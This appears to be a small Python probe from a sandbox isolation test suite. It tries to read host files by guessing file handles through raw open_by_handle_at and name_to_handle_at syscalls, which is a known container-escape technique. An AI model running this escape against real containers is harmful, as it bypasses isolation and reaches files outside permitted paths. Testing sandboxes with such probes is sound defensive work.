"""Opens files of the host by guessed handles, past every path."""

import ctypes
import os

from attempt import attempt, syscall

handle = (ctypes.c_uint32 * 4)(8, 1, 2, 0)
work = os.open("/work", os.O_RDONLY)
attempt("open by handle", lambda: syscall(304, work, handle, os.O_RDONLY))
attempt("name to handle", lambda: syscall(303, -100, b"/work", handle, ctypes.byref(ctypes.c_int()), 0))
